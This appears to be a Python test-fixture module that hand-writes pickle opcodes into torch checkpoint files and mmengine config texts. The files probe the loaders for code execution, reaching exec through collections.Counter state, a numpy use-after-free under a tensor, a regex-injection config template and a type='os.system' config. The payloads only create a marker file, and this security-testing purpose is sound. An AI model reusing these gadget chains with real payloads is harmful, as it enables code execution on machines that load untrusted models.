"""Crafted checkpoints, written as pickle opcodes inside torch's own zip format, and crafted config texts.

Each is built the way an attacker would: only with the opcodes and globals that torch's weights-only
unpickler accepts, plus those an mmengine checkpoint legitimately names (`builtins.getattr`, HistoryBuffer,
numpy). Their payload, where they have one, creates `marker`: a test that finds the file has seen code run.
"""

import struct
import types
from pathlib import Path
from typing import Callable, Dict

import torch

HISTORY_BUFFER = ('mmengine.logging.history_buffer', 'HistoryBuffer')


# Opcodes of pickle protocol 2 that torch's weights-only unpickler implements.
def glob(module: str, name: str) -> bytes:
    return b'c' + f'{module}\n{name}\n'.encode()


def text(value: str) -> bytes:
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def integer(value: int) -> bytes:
    return b'J' + struct.pack('<i', value)


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) as MARK args TUPLE REDUCE."""
    return func + b'(' + b''.join(args) + b't' + b'R'


def getattr_(obj: bytes, name: str) -> bytes:
    return call(glob('builtins', 'getattr'), obj, text(name))


def dict_(*items: bytes) -> bytes:
    """A dict from alternating key and value opcodes."""
    return b'}' + (b'(' + b''.join(items) + b'u' if items else b'')


def build(obj: bytes, state: bytes) -> bytes:
    return obj + state + b'b'


def put(index: int) -> bytes:
    return b'q' + bytes([index])


def get(index: int) -> bytes:
    return b'h' + bytes([index])


def checkpoint_with(value: bytes) -> bytes:
    """What a downloaded training checkpoint looks like, with `value` in its message hub's runtime info."""
    meta = dict_(text('epoch'), integer(1), text('iter'), integer(2))
    hub = dict_(text('runtime_info'), dict_(text('epoch'), integer(1), text('evil'), value))
    return dict_(text('meta'), meta, text('state_dict'), dict_(), text('message_hub'), hub)


def payload(marker: Path) -> str:
    return f'open({str(marker)!r}, "w").close()'


def exec_reached_from(function: bytes, marker: Path) -> bytes:
    """Reaches `exec` from `function.__builtins__` with attribute lookups only, and runs it during unpickling.

    A Counter's BUILD updates its `__dict__` with the builtins dict, so `getattr(counter, 'exec')` is exec; a
    second Counter gets `__setstate__ = exec` and a second BUILD calls it with the payload.
    """
    holder = build(call(glob('collections', 'Counter')) + put(1), getattr_(function, '__builtins__'))
    runner = build(call(glob('collections', 'Counter')), dict_(text('__setstate__'), getattr_(get(1), 'exec')))
    runner = build(runner, text(payload(marker)))
    return checkpoint_with(b']' + b'(' + holder + runner + b'e')


def bytes_(data: bytes) -> bytes:
    """bytes as protocol 2 pickles them in Python 3: `_codecs.encode(text, 'latin1')`."""
    return call(glob('_codecs', 'encode'), text(data.decode('latin1')), text('latin1'))


def float32_dtype() -> bytes:
    return build(
        call(glob('numpy', 'dtype'), text('f4'), b'\x89', b'\x88'),
        b'(' + integer(3) + text('<') + b'NNN' + integer(-1) + integer(-1) + integer(0) + b't',
    )


def array_state(count: int) -> bytes:
    """numpy's array state: (1, (count,), float32, False, data)."""
    return (
        b'(' + integer(1) + b'(' + integer(count) + b't' + float32_dtype() + b'\x89' + bytes_(bytes(4 * count)) + b't'
    )


def use_after_free(newobj: bool) -> bytes:
    """The array freed under a tensor: an array (by `_reconstruct`, or by NEWOBJ), a tensor made from it by torch's
    allowed `_rebuild_device_tensor_from_numpy` (which shares its memory), then a second BUILD of the same array
    through the memo, which makes numpy free the buffer the tensor points at."""
    if newobj:
        array = glob('numpy', 'ndarray') + b'(' + b'(' + integer(0) + b't' + b't' + b'\x81'
    else:
        array = call(
            glob('numpy._core.multiarray', '_reconstruct'),
            glob('numpy', 'ndarray'),
            b'(' + integer(0) + b't',
            bytes_(b'b'),
        )
    array = build(array, array_state(4096)) + put(1)
    tensor = call(
        glob('torch._utils', '_rebuild_device_tensor_from_numpy'),
        get(1),
        glob('torch', 'float32'),
        text('cpu'),
        b'\x89',
    )
    return checkpoint_with(b']' + b'(' + array + tensor + build(get(1), array_state(1)) + b'e')


def _crafted(marker: Path) -> Dict[str, bytes]:
    history_buffer = glob(*HISTORY_BUFFER)
    return {
        # Attribute lookups on a class on torch's own list (Counter) lead to builtins.exec.
        'exec_via_counter': exec_reached_from(getattr_(glob('collections', 'Counter'), '__init__'), marker),
        # The same through the one lookup real checkpoints hold, getattr(HistoryBuffer, 'mean').
        'exec_via_history_buffer': exec_reached_from(getattr_(history_buffer, 'mean'), marker),
        # A callable hidden in a Counter's instance state (copy.deepcopy and pickle call `__reduce_ex__`).
        'callable_in_counter_state': checkpoint_with(
            build(call(glob('collections', 'Counter')), dict_(text('__reduce_ex__'), getattr_(history_buffer, 'mean')))
        ),
        # The same with a callable on torch's own allow-list, which torch.load admits.
        'torch_callable_in_counter_state': checkpoint_with(
            build(call(glob('collections', 'Counter')), dict_(text('__deepcopy__'), glob('_codecs', 'encode')))
        ),
        # A HistoryBuffer whose state re-binds the class-wide statistics table (mmengine's __setstate__ would).
        'callable_in_history_buffer_state': checkpoint_with(
            build(
                history_buffer + b')' + b'\x81',
                dict_(
                    text('max_length'),
                    integer(10),
                    text('_log_history'),
                    b']',
                    text('_count_history'),
                    b']',
                    text('statistics_methods'),
                    dict_(text('mean'), glob('_codecs', 'encode')),
                ),
            )
        ),
        # A numpy array of dtype object, holding whatever the pickle likes: as numpy pickles arrays...
        'object_array': checkpoint_with(
            build(
                call(
                    glob('numpy._core.multiarray', '_reconstruct'),
                    glob('numpy', 'ndarray'),
                    b'(' + integer(0) + b't',
                    call(glob('_codecs', 'encode'), text('b'), text('latin1')),
                ),
                b'('
                + integer(1)
                + b'('
                + integer(1)
                + b't'
                + build(
                    call(glob('numpy', 'dtype'), text('O8'), b'\x89', b'\x88'),
                    b'(' + integer(3) + text('|') + b'NNN' + integer(-1) + integer(-1) + integer(63) + b't',
                )
                + b'\x89'
                + b']'
                + text('anything')
                + b'a'
                + b't',
            )
        ),
        # A numpy scalar whose dtype's state carries a function in its metadata (dtype equality ignores metadata).
        'callable_in_scalar_dtype_metadata': checkpoint_with(
            call(
                glob('numpy._core.multiarray', 'scalar'),
                build(
                    call(glob('numpy', 'dtype'), text('f8'), b'\x89', b'\x88'),
                    b'('
                    + integer(4)
                    + text('<')
                    + b'NNN'
                    + integer(-1)
                    + integer(-1)
                    + integer(0)
                    + dict_(text('hidden'), glob('_codecs', 'encode'))
                    + b't',
                ),
                call(glob('_codecs', 'encode'), text('\x00' * 8), text('latin1')),
            )
        ),
        # ... and by calling the ndarray class with dtype 'O'.
        'object_array_by_constructor': checkpoint_with(
            call(glob('numpy', 'ndarray'), b'(' + integer(1) + b't', text('O'))
        ),
        'double_build_array': use_after_free(newobj=False),
        'array_built_twice': checkpoint_with(
            build(
                build(
                    call(
                        glob('numpy._core.multiarray', '_reconstruct'),
                        glob('numpy', 'ndarray'),
                        b'(' + integer(0) + b't',
                        bytes_(b'b'),
                    ),
                    array_state(4),
                ),
                array_state(1),
            )
        ),
        'double_build_array_newobj': use_after_free(newobj=True),
        # A tensor sharing an array's memory, even without a second BUILD (the array could be changed later).
        'tensor_from_array': checkpoint_with(
            call(
                glob('torch._utils', '_rebuild_device_tensor_from_numpy'),
                build(
                    call(
                        glob('numpy._core.multiarray', '_reconstruct'),
                        glob('numpy', 'ndarray'),
                        b'(' + integer(0) + b't',
                        bytes_(b'b'),
                    ),
                    array_state(4),
                ),
                glob('torch', 'float32'),
                text('cpu'),
                b'\x89',
            )
        ),
        # One dtype given its state twice: numpy would change the item size of arrays already made with it.
        'double_build_dtype': checkpoint_with(
            build(
                float32_dtype() + put(2),
                b'(' + integer(3) + text('<') + b'NNN' + integer(-1) + integer(-1) + integer(0) + b't',
            )
        ),
    }


CRAFTED_NAMES = (
    'exec_via_counter',
    'exec_via_history_buffer',
    'callable_in_counter_state',
    'torch_callable_in_counter_state',
    'callable_in_history_buffer_state',
    'object_array',
    'callable_in_scalar_dtype_metadata',
    'object_array_by_constructor',
    'double_build_array',
    'double_build_array_newobj',
    'array_built_twice',
    'tensor_from_array',
    'double_build_dtype',
)


class _RawPickler:
    """Stands in for pickle.Pickler in `torch.save`: writes the given opcodes as data.pkl."""

    def __init__(self, file, protocol: int = 2) -> None:
        self.file = file

    def dump(self, opcodes: bytes) -> None:
        self.file.write(b'\x80\x02' + opcodes + b'.')


_RAW = types.SimpleNamespace(__name__='raw_opcodes', Pickler=_RawPickler)


def write_crafted(name: str, path: Path, marker: Path) -> Path:
    """Writes the crafted checkpoint `name` to `path` as a torch zip file."""
    torch.save(_crafted(marker)[name], path, pickle_module=_RAW)
    return path


def write_config_code(path: Path, marker: Path) -> Path:
    """Plain data only, but `meta['config']` is Python that mmengine's Runner.resume runs (Config.fromstring)."""
    torch.save({'meta': {'epoch': 1, 'iter': 2, 'config': payload(marker)}, 'state_dict': {}, 'message_hub': {}}, path)
    return path


def config_template(marker: Path) -> str:
    """A config text that only assigns data, plus a comment; mmengine's `Config.fromstring` runs the payload.

    mmengine substitutes `{{'$VAR:default'}}` before it parses a text, with a regular expression built from the
    default, unescaped. The default here holds `|`, so the expression also matches `'x'` + newline + `}}` of the
    dict on the next line, which is replaced by the default: Python that calls exec, then closes the dict.
    """
    code = payload(marker).encode().hex()
    default = f"[exec(bytes.fromhex('{code}').decode())]}}[0]}}|'x'"
    return f"# {{{{'$MAFORMER_MM_UNSET_VARIABLE:{default}'}}}}\nsettings = {{'k': {{'j': 'x'\n}}}}\n"


def system_config(marker: Path) -> str:
    """A config text that is plain data, and runs a shell command when mmengine builds its model: mmengine's
    `Registry.get` imports any dotted `type` name (`get_object_from_string`)."""
    return f"model = dict(type='os.system', command='touch {marker}')\n"


def with_config_texts(checkpoint: dict, text: str) -> dict:
    """`checkpoint` with `text` wherever mmengine parses a saved config: `meta['config']` (Runner.resume) and
    `meta['cfg']` and `message_hub['runtime_info']['cfg']` (an inferencer without a config)."""
    checkpoint = dict(checkpoint, meta=dict(checkpoint.get('meta') or {}, config=text, cfg=text))
    hub = dict(checkpoint.get('message_hub') or {})
    hub['runtime_info'] = dict(hub.get('runtime_info') or {}, cfg=text)
    checkpoint['message_hub'] = hub
    return checkpoint


def write_dtype_metadata(path: Path) -> Path:
    """A float64 array whose dtype's state carries a function in its metadata (dtype equality ignores metadata)."""
    import codecs

    import numpy as np

    dtype = np.dtype('f8', metadata={'hidden': codecs.encode})
    torch.save({'meta': {'best': np.zeros(2, dtype=dtype)}, 'state_dict': {}}, path)
    return path


def write_metadata_assign(path: Path) -> Path:
    """A state dict whose `_metadata` asks torch's `load_state_dict` to make the loaded tensors the module's own
    (`assign_to_params_buffers`), which with a tensor that aliases other memory makes that memory a weight."""
    from collections import OrderedDict

    state_dict = OrderedDict(weight=torch.ones(2, 2), bias=torch.zeros(2))
    state_dict._metadata = OrderedDict({'': {'version': 1, 'assign_to_params_buffers': True}})
    torch.save({'meta': {'epoch': 1, 'iter': 1}, 'state_dict': state_dict}, path)
    return path


def all_crafted(folder: Path, marker: Path, write: Callable = write_crafted) -> Dict[str, Path]:
    files = {name: write(name, folder / f'{name}.pth', marker) for name in CRAFTED_NAMES}
    files['config_code'] = write_config_code(folder / 'config_code.pth', marker)
    files['metadata_assign'] = write_metadata_assign(folder / 'metadata_assign.pth')
    return files
